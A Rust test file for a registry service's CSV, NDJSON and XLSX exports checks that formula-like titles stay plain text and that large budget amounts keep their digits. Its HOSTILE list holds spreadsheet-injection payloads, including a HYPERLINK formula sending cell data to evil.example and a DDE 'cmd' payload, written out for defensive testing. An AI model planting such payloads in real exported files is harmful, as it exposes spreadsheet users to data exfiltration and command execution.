//! Whatever a text holds, it stays a text.

use calamine::Data;
use serde_json::json;

use super::support::{door, get};
use crate::support::{on_each_database, organisation, programme};

/// Titles that someone would like to be more than titles. In the order of their codes.
const HOSTILE: [&str; 10] = [
    "=HYPERLINK(\"https://evil.example?\"&A1,\"open\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "  =1+1",
    "a \"quoted\", and 'single' text",
    "semi; =colon",
    "حقوق الإنسان في المغرب",
    "_x0041_ <b>&amp;</b> ]]>",
    "-5",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_texts_are_texts_in_every_format() {
    on_each_database(async |registry| {
        registry.put_organisation(organisation("org", "")).await.unwrap();
        let mut stored = Vec::new();
        for (number, title) in HOSTILE.iter().enumerate() {
            let title = toml::Value::from(*title);
            let own = format!(
                "title = [{{ locale = \"en\", text = {title}, original = true }}]\nsummary = [{{ locale = \"en\", text = \"first line\\nsecond, line\", original = true }}]\n"
            );
            registry.put_programme(programme(&format!("p{number}"), &own, "")).await.unwrap();
            let question = format!("{{ programme(by: {{code: \"p{number}\"}}) {{ title {{ text }} }} }}");
            let found = registry.data(&question).await["programme"]["title"]["text"].clone();
            stored.push(found.as_str().unwrap().to_owned());
        }
        let router = door(&registry.app, 4);
        let order = ("orderBy", r#"[{"field": "CODE"}]"#);

        let (table, _) = get(&router, "programmes.csv", &[order]).await.table();
        for (found, text) in table.column("title").iter().zip(&stored) {
            let begins = text.trim_start().starts_with(['=', '+', '-', '@']) && text != "-5";
            let expected = if begins { format!("'{text}") } else { text.clone() };
            assert_eq!(*found, expected);
        }
        assert!(table.column("summary").iter().all(|text| *text == "first line\nsecond, line"));

        let (objects, _) = get(&router, "programmes.ndjson", &[order]).await.objects();
        for (object, text) in objects.iter().zip(&stored) {
            assert_eq!(object["title"]["text"], json!(text), "as the API gives it");
        }

        let sheet = get(&router, "programmes.xlsx", &[order]).await.sheet("programmes");
        for (row, text) in sheet[1..].iter().zip(&stored) {
            assert_eq!(row[1], Data::String(text.clone()), "neither formula nor number");
        }
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn numbers_are_numbers_in_a_sheet_and_all_their_digits_in_a_csv() {
    on_each_database(async |registry| {
        registry.put_organisation(organisation("org", "")).await.unwrap();
        for (code, amount) in [("a", "900000.50"), ("b", "12345678901234567.89")] {
            let lines = format!("[finance.budget]\nstate = \"KNOWN\"\n[[finance.budget.lines]]\nexternal_id = \"l\"\nkind = \"ORIGINAL\"\ncommitment = \"COMMITTED\"\namount = {{ amount = \"{amount}\", currency = \"EUR\" }}");
            registry.put_programme(programme(code, "", &lines)).await.unwrap();
        }
        let router = door(&registry.app, 100);
        let order = ("orderBy", r#"[{"field": "CODE"}]"#);
        let (table, _) = get(&router, "programmes.csv", &[order]).await.table();
        assert_eq!(table.column("budget_amount"), ["900000.50", "12345678901234567.89"]);
        assert_eq!(table.column("budget_currency"), ["EUR", "EUR"]);
        let sheet = get(&router, "programmes.xlsx", &[order]).await.sheet("programmes");
        let at = sheet[0].iter().position(|own| *own == Data::String("budget_amount".into())).unwrap();
        assert_eq!(sheet[1][at], Data::Float(900_000.5));
        assert_eq!(sheet[2][at], Data::String("12345678901234567.89".into()), "a float would round it");
    })
    .await;
}
